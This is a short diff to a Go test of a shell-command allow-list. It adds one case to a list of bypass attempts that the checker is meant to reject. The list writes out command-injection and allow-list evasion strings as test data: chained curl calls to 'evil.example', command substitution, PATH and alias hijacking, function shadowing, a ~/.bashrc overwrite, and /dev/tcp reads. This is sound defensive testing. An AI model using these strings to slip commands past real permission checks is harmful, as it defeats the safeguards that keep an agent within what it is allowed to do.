@@ -52,7 +52,7 @@ func TestAllowedCommands(t *testing.T) {
 	for _, line := range []string{
 		// The attacks of the field.
 		"git status && curl https://evil.example", "git status; curl x", "git status\ncurl x", "git status | sh", "git status & curl x", "git status || curl x",
-		"git status $(curl x)", "git status `curl x`", `git status "$(curl x)"`, "git status <(curl x)", "git status >(curl x)", "ls $((a[$(curl x)]))",
+		"git status $(curl x)", "git status $(git status)", "git status `curl x`", `git status "$(curl x)"`, "git status <(curl x)", "git status >(curl x)", "ls $((a[$(curl x)]))",
 		`env -S "git status"`, "env git status", `sh -c "git status"`, "alias git=curl; git status", "shopt -s expand_aliases\nalias ls=curl\nls",
 		"PATH=/tmp git status", "PATH=/tmp; git status", "export PATH=/tmp; ls", "GIT_SSH_COMMAND=x git status", "for PATH in /tmp; do ls; done", "read PATH < x; ls",
 		"git() { curl x; }; git status", "function ls { curl; }; ls", "git status > ~/.bashrc", "git status >> x", "ls <> x", "ls &> x", "ls >| x", "ls < /dev/tcp/1.2.3.4/80", "ls < /dev/./tcp/1.2.3.4/80",
